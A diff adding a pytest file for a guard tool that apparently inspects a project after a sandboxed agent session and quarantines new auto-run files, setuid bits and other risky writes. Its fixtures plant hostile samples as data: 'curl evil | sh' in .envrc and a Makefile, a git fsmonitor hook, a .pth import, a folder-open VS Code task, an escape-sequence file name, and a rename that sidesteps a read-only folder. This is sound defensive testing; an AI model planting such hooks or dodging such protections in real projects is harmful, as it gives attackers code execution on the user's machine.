@@ -1,0 +1,160 @@
+"""Before and after a session, without an engine: the session's writes are
+made directly in the project, as the sandbox's would land there."""
+
+from __future__ import annotations
+
+import os
+import time
+from pathlib import Path
+
+import pytest
+
+from hutch import guard
+from hutch.guard import quarantine, report
+from hutch.guard import tree as t
+
+UID = os.getuid()
+
+
+def write(path: Path, text: str = "x", mode: int = 0o644) -> None:
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_text(text)
+    path.chmod(mode)
+
+
+@pytest.fixture
+def project(tmp_path: Path) -> Path:
+    root = tmp_path / "proj"
+    write(root / "Makefile", "all:\n\techo hi\n")
+    write(root / ".vscode" / "settings.json", '{"a": 1}\n')
+    write(root / "src" / "app.py", "print(1)\n")
+    write(root / ".env", "TOKEN=1\n")
+    write(root / "node_modules" / "x" / "index.js", "module.exports = 1\n")
+    time.sleep(t.RACY_NS / 1e9 + 0.02)
+    return root
+
+
+def run(project: Path, state: Path, session: str, change: object, surface: str = "ask",
+        ask: object = None) -> guard.Outcome:  # fmt: skip
+    prepared = guard.prepare(project=str(project), uid=UID, mask=(), unmask=(), no_mask=False,
+                             state=str(state), session=session)  # fmt: skip
+    assert callable(change)
+    change()
+    return guard.finish(project=str(project), uid=UID, prepared_baseline=prepared.baseline,
+                        policy=prepared.policy, mask=(), unmask=(), no_mask=False, state=str(state),
+                        session=session, git_start=None, git_upper=None, surface=surface,
+                        ask=ask)  # type: ignore[arg-type]  # fmt: skip
+
+
+def test_prepare_masks_and_pins(project: Path, tmp_path: Path) -> None:
+    prepared = guard.prepare(project=str(project), uid=UID, mask=(), unmask=(), no_mask=False,
+                             state=str(tmp_path / "state"), session="s1")  # fmt: skip
+    assert prepared.masked_files == (".env",)
+    assert [b.rel for b in prepared.readonly] == [".vscode"]
+    st = os.stat(project / ".vscode")
+    assert prepared.readonly[0].pinned == (st.st_dev, st.st_ino)
+    assert prepared.root.ino == os.stat(project).st_ino
+    # The tree is kept, and a baseline for the session sits beside it.
+    assert Path(guard.baseline_path(str(tmp_path / "state"), str(project), "s1")).is_file()
+
+
+def test_new_host_executed_files_are_set_aside_and_can_be_accepted(project: Path, tmp_path: Path) -> None:
+    state = tmp_path / "state"
+
+    def session() -> None:
+        write(project / ".envrc", "curl evil | sh\n")
+        write(project / "sub" / ".envrc", "evil\n")
+        # A renamed parent sidesteps a read-only settings.json: the new one is held.
+        os.rename(project / ".vscode", project / "vscode-old")
+        write(project / ".vscode" / "settings.json", '{"evil": true}\n')
+        write(project / ".vscode" / "tasks.json", '{"runOn": "folderOpen"}\n')
+
+    outcome = run(project, state, "s1", session)
+    kinds = {(c.kind, c.path) for c in outcome.changes}
+    assert ("surface", ".envrc") in kinds and ("surface", ".vscode/tasks.json") in kinds
+    assert not (project / ".envrc").exists() and not (project / "sub" / ".envrc").exists()
+    # The host's version is back where it was.
+    assert (project / ".vscode" / "settings.json").read_text() == '{"a": 1}\n'
+    assert not (project / ".vscode" / "tasks.json").exists()
+    held = quarantine.load(str(state), "s1")
+    assert held is not None
+    assert {i.path for i in held.items} == {".envrc", "sub/.envrc", ".vscode/settings.json", ".vscode/tasks.json"}
+    done, refused = quarantine.accept(str(state), held, [".envrc", "nope"])
+    assert [i.path for i in done] == [".envrc"] and [r.path for r in refused] == ["nope"]
+    assert (project / ".envrc").read_text() == "curl evil | sh\n"
+    # A file the user changed since is not overwritten.
+    write(project / "sub" / ".envrc", "mine\n")
+    done, refused = quarantine.accept(str(state), held, ["sub/.envrc"])
+    assert not done and refused[0].path == "sub/.envrc"
+    assert (project / "sub" / ".envrc").read_text() == "mine\n"
+
+
+def test_report_mode_leaves_files_in_place(project: Path, tmp_path: Path) -> None:
+    outcome = run(project, tmp_path / "state", "s1", lambda: write(project / ".envrc", "x"), surface="report")
+    assert ("surface", ".envrc") in {(c.kind, c.path) for c in outcome.changes}
+    assert (project / ".envrc").exists()
+    assert not outcome.held.items
+
+
+def test_a_yes_at_the_prompt_keeps_the_change(project: Path, tmp_path: Path) -> None:
+    asked: list[str] = []
+
+    def ask(path: str, diff: str) -> bool:
+        asked.append(diff)
+        return True
+
+    run(project, tmp_path / "state", "s1", lambda: write(project / ".mcp.json", '{"x": 1}\n'), ask=ask)
+    assert (project / ".mcp.json").read_text() == '{"x": 1}\n'
+    assert "+{\"x\": 1}" in asked[0]
+
+
+def test_setuid_bits_are_removed_and_reported(project: Path, tmp_path: Path) -> None:
+    deep = project / "node_modules" / "/".join(f"d{i}" for i in range(12)) / "tool"
+
+    def session() -> None:
+        write(deep, "#!/bin/sh\n", 0o4755)
+        (project / "src" / "app.py").chmod(0o2755)
+
+    outcome = run(project, tmp_path / "state", "s1", session)
+    found = {(c.kind, c.path) for c in outcome.changes}
+    assert ("setuid", str(deep.relative_to(project))) in found
+    assert ("setuid", "src/app.py") not in found  # in place on an unrecorded file: the daily full pass
+    assert deep.stat().st_mode & 0o7777 == 0o755
+
+
+def test_build_files_executables_repos_and_links(project: Path, tmp_path: Path) -> None:
+    def session() -> None:
+        write(project / "Makefile", "all:\n\tcurl evil | sh\n")
+        write(project / "tools" / "run", "#!/bin/sh\n", 0o755)
+        write(project / "vendor" / "lib" / ".git" / "config", "[core]\n\tfsmonitor = evil\n")
+        (project / "out").symlink_to("/home")
+        write(project / ".venv" / "lib" / "site-packages" / "x.pth", "import evil\n")
+        (project / "node_modules" / ".bin").mkdir()
+        (project / "node_modules" / ".bin" / "x").symlink_to("../x/index.js")
+
+    outcome = run(project, tmp_path / "state", "s1", session)
+    found = {(c.kind, c.path) for c in outcome.changes}
+    assert {("build", "Makefile"), ("executable", "tools/run"), ("repo", "vendor/lib/.git"),
+            ("surface", "vendor/lib/.git/config"), ("link-outside", "out"),
+            ("startup", ".venv/lib/site-packages/x.pth"), ("startup", "node_modules/.bin/x")} <= found  # fmt: skip
+    # The Makefile stays (the agent edits build files as part of its work).
+    assert "evil" in (project / "Makefile").read_text()
+    # The nested repository's config is held, as a hook would be.
+    assert not (project / "vendor" / "lib" / ".git" / "config").exists()
+
+
+def test_the_next_session_starts_from_what_the_last_one_left(project: Path, tmp_path: Path) -> None:
+    state = tmp_path / "state"
+    run(project, state, "s1", lambda: write(project / "tools" / "run", "#!/bin/sh\n", 0o755))
+    time.sleep(t.RACY_NS / 1e9 + 0.02)
+    outcome = run(project, state, "s2", lambda: None)
+    assert outcome.changes == []
+
+
+def test_names_are_escaped_when_printed() -> None:
+    change = report.Change("surface", "a\x1b]52;c;ZXZpbA==\x07b\nc", "new file")
+    text = report.format_changes([change])
+    assert "\x1b" not in text and "\x07" not in text and "\n" not in text.strip("\n")
+    assert "\\x1b]52;c;ZXZpbA==\\x07b\\nc" in text
+    assert report.display("ok\u202eevil") == "ok\\u202eevil"
+    assert report.display("bad\udcff") == "bad\\xff"
